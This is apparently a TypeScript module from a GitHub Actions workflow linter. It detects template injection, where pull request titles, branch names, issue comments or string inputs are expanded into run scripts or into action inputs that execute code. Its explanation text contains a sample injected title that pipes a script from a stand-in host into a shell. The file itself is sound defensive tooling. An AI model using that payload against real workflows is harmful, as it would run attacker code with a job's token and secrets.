import type { Finding } from '@paved-road/core';
import {
  effectiveShell,
  expressionValueContexts,
  findExpressions,
  withScript,
  type Job,
  type KeyValue,
  type RunScript,
  type Step,
  type WorkflowFile,
} from '@paved-road/workflows';
import { at, envLayers, hasOutsiderTrigger, lookupEnv, parseUses, rule } from './common.js';

export const templateInjectionRule = rule({
  id: 'template-injection',
  title: 'Attacker-controllable text is expanded into code',
  severity: 'error',
  why:
    '`${{ }}` is replaced by its value before the shell (or the script) runs, so the value becomes code. A pull request ' +
    'title, a branch name or an issue comment is written by whoever opens it: `"; curl evil.sh | sh; #` in a title runs ' +
    "with the job's token and secrets. Reported as an error when the text comes from an event outsiders can start " +
    '(pull requests, issues, comments, workflow_run, ...), and as a warning when it comes from a string input of ' +
    'workflow_dispatch, workflow_call or a composite action, or from an event only collaborators start (push). ' +
    'SHAs, ids, numbers, step outcomes, job results, boolean, number and choice inputs cannot carry code and are not reported.',
  fix:
    'Pass the value to the step through `env:` and use the variable, quoted, in the script (`"$TITLE"`; `process.env.TITLE` ' +
    'in actions/github-script). The shell then treats it as data.',
  before: [
    'on: issues',
    'jobs:',
    '  triage:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    '      - run: echo "${{ github.event.issue.title }}"',
  ].join('\n'),
  after: [
    'on: issues',
    'jobs:',
    '  triage:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    '      - env:',
    '          TITLE: ${{ github.event.issue.title }}',
    '        run: echo "$TITLE"',
  ].join('\n'),
});

/**
 * Inputs of well-known actions whose value is executed as code (a script, a shell command line), by
 * action (`owner/repo`, lower-case).
 */
export const CODE_INPUTS: Readonly<Record<string, readonly string[]>> = {
  'actions/github-script': ['script'],
  'azure/cli': ['inlinescript'],
  'azure/powershell': ['inlinescript'],
  'appleboy/ssh-action': ['script'],
  'nick-fields/retry': ['command'],
  'nick-invision/retry': ['command'],
  'wandalen/wretry.action': ['command'],
  'addnab/docker-run-action': ['run'],
  'mikefarah/yq': ['cmd'],
  'jannekem/run-python-script-action': ['script'],
  'cypress-io/github-action': ['command', 'build', 'start'],
  'google-github-actions/ssh-compute': ['command'],
};

/** Event fields that carry free text someone outside the project writes (leaf names). */
const TEXT_FIELDS = new Set([
  'title',
  'body',
  'message',
  'email',
  'head_ref',
  'head_branch',
  'label',
  'description',
  'display_title',
  'page_name',
  'default_branch',
]);

/** Event objects that contain such text: serialising one (`toJSON(github.event.issue)`) carries it too. */
const TEXT_OBJECTS = new Set([
  'github',
  'event',
  'pull_request',
  'issue',
  'comment',
  'review',
  'review_comment',
  'discussion',
  'commits',
  'head_commit',
  'pages',
  'workflow_run',
  'head',
  'labels',
  'author',
  'committer',
  'pusher',
  'pull_requests',
  'client_payload',
  '*',
]);

export type Source =
  /** Free text from the event: an outsider may write it (depending on the trigger). */
  | { kind: 'event'; path: string }
  /** A string input: whoever dispatches or calls the workflow (or uses the action) chooses it. */
  | { kind: 'input'; path: string };

interface Scope {
  wf: WorkflowFile;
  envLayers: readonly KeyValue[][];
}

/**
 * Why a context path can carry attacker-written text, or undefined when it cannot (structured and
 * fixed values: SHAs, ids, numbers, `steps.*.outcome`, `needs.*.result`, `github.repository`,
 * boolean / number / choice inputs) or when its origin is not visible in the file (`steps.*.outputs`,
 * `needs.*.outputs`, `matrix.*` from an expression, variables set through GITHUB_ENV).
 */
export function attackerSource(
  path: string,
  scope: Scope,
  seen: Set<string> = new Set(),
): { source: Source; via?: string } | undefined {
  const root = path.split('.')[0];
  if (root === 'github') {
    // Property names of contexts are case-insensitive.
    path = path.toLowerCase();
    const segments = path.split('.');
    if (path === 'github.head_ref') return { source: { kind: 'event', path } };
    if (segments[1] !== undefined && segments[1] !== 'event') return undefined;
    if (segments[2] === 'inputs' && segments.length > 3) return inputSource(scope.wf, segments[3]!, path);
    if (segments[2] === 'client_payload') return { source: { kind: 'event', path } };
    const last = segments[segments.length - 1]!;
    const parent = segments[segments.length - 2];
    if (TEXT_FIELDS.has(last)) return { source: { kind: 'event', path } };
    if (
      last === 'name' &&
      parent !== undefined &&
      ['author', 'committer', 'pusher', 'label', 'labels', '*', 'head_commit', 'workflow_run'].includes(parent)
    ) {
      // `labels.*.name` is a label; `*.name` under commits is an author name. `repository.name` is not here.
      if (parent !== '*' || segments.includes('labels') || segments.includes('commits') || segments.includes('pages'))
        return { source: { kind: 'event', path } };
    }
    if (last === 'ref' && parent === 'head') return { source: { kind: 'event', path } };
    if (TEXT_OBJECTS.has(last)) return { source: { kind: 'event', path } };
    return undefined;
  }
  const segments = path.split('.');
  if (root === 'inputs' && segments.length > 1) return inputSource(scope.wf, segments[1]!, path);
  if (root === 'env' && segments.length > 1) {
    const name = segments[1]!;
    if (seen.has(name)) return undefined;
    seen.add(name);
    const entry = lookupEnv(scope.envLayers, name);
    if (!entry) return undefined;
    for (const found of findExpressions(entry.value.value)) {
      for (const inner of expressionValueContexts(found.expression)) {
        const source = attackerSource(inner, scope, seen);
        if (source) return { source: source.source, via: `env.${name}` };
      }
    }
  }
  return undefined;
}

function inputSource(wf: WorkflowFile, name: string, path: string): { source: Source } | undefined {
  const declared = [...wf.triggers.flatMap((t) => t.inputs), ...(wf.action?.inputs ?? [])].filter(
    (input) => input.name.toLowerCase() === name.toLowerCase(),
  );
  // Undeclared inputs are unknown strings; declared ones carry text only when some declaration is a string.
  if (declared.length && declared.every((input) => input.type !== 'string')) return undefined;
  return { source: { kind: 'input', path } };
}

/** A variable name for the suggested env: entry (`github.event.issue.title` → ISSUE_TITLE). */
export function suggestedVariable(path: string): string {
  const parts = path
    .split('.')
    .filter((part) => part !== 'github' && part !== 'event' && part !== '*' && part !== 'env' && part !== 'inputs');
  const name = parts
    .slice(-2)
    .join('_')
    .replace(/[^A-Za-z0-9]+/g, '_')
    .toUpperCase();
  return name || 'VALUE';
}

interface Target {
  script: RunScript;
  /** `run` or `<action> <input>`. */
  what: string;
  /** How the script reads an env variable. */
  reads: (name: string) => string;
}

function targets(wf: WorkflowFile, job: Job, step: Step): Target[] {
  const out: Target[] = [];
  if (step.run) {
    const shell = (effectiveShell(wf, job, step) ?? '').toLowerCase();
    const reads =
      shell.startsWith('pwsh') || shell.startsWith('powershell')
        ? (n: string) => `$env:${n}`
        : shell === 'cmd'
          ? (n: string) => `%${n}%`
          : (n: string) => `"$${n}"`;
    out.push({ script: step.run, what: 'the run script', reads });
  }
  if (step.uses) {
    const uses = parseUses(step.uses.value);
    const inputs = CODE_INPUTS[uses.name];
    if (inputs) {
      for (const [name] of step.with) {
        if (!inputs.includes(name.toLowerCase())) continue;
        const script = withScript(wf, step, name);
        if (!script) continue;
        const reads =
          uses.name === 'actions/github-script' ? (n: string) => `process.env.${n}` : (n: string) => `"$${n}"`;
        out.push({ script, what: `the ${name} input of ${uses.name}`, reads });
      }
    }
  }
  return out;
}

export function auditTemplateInjection(wf: WorkflowFile): Finding[] {
  const findings: Finding[] = [];
  const outsiders = hasOutsiderTrigger(wf);
  for (const job of wf.jobs) {
    for (const step of job.steps) {
      const scope: Scope = { wf, envLayers: envLayers(wf, job, step) };
      for (const target of targets(wf, job, step)) {
        for (const found of findExpressions(target.script.text, target.script.offsetToPosition)) {
          const finding = injectionFinding(wf, job, step, target, found, scope, outsiders);
          if (finding) findings.push(finding);
        }
      }
    }
  }
  return findings;
}

function injectionFinding(
  wf: WorkflowFile,
  job: Job,
  step: Step,
  target: Target,
  found: ReturnType<typeof findExpressions>[number],
  scope: Scope,
  outsiders: boolean,
): Finding | undefined {
  const sources: Array<{ path: string; source: Source; via?: string }> = [];
  // Only contexts whose text reaches the value: `contains(github.event.issue.title, 'x')` pastes a boolean.
  for (const path of expressionValueContexts(found.expression)) {
    const source = attackerSource(path, scope);
    if (source) sources.push({ path, ...source });
  }
  if (!sources.length) return undefined;
  const fromEvent = sources.find((s) => s.source.kind === 'event');
  const first = fromEvent ?? sources[0]!;
  const severity = fromEvent && outsiders && !wf.action ? 'error' : 'warning';
  const origin = first.via ? `${first.via}, set from ${first.source.path}` : first.source.path;
  const who =
    first.source.kind === 'input'
      ? wf.kind === 'action'
        ? 'any workflow using this action chooses it'
        : 'whoever dispatches or calls the workflow chooses it'
      : severity === 'error'
        ? 'anyone who can open a pull request, issue or comment can write it'
        : 'its author controls it';
  const variable = suggestedVariable(first.via ?? first.source.path);
  const message =
    `\${{ ${found.expression} }} is expanded into ${target.what} before it runs, and ${origin} is free text (${who}): ` +
    `it can inject code. Pass it through env: (${variable}: \${{ ${found.expression} }}) and use ${target.reads(variable)} instead.`;
  return {
    ...at(
      wf,
      templateInjectionRule,
      { line: found.line!, column: found.column!, endLine: found.endLine!, endColumn: found.endColumn! },
      message,
      { job, step },
    ),
    severity,
  };
}
